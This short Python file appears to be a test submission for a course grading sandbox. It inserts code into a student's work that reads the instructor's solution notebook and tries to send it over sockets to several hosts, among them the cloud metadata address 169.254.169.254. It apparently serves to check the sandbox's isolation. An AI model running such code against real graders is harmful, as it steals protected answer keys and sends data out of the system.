"""Sends the solution to a server of its own, and asks one for answers."""

CODE = """
import socket, urllib.request
text = ""
try:
    text = open("/srv/course/solutions/02_cost/02_cost.ipynb").read()
except OSError as error:
    print(error)
for address in (("127.0.0.1", 9), ("8.8.8.8", 53), ("169.254.169.254", 80)):
    try:
        with socket.create_connection(address, timeout=2) as line:
            line.sendall(text.encode())
            print("connected to", address)
    except OSError as error:
        print(address, error)
"""


def submit(work):
    work.insert(CODE)
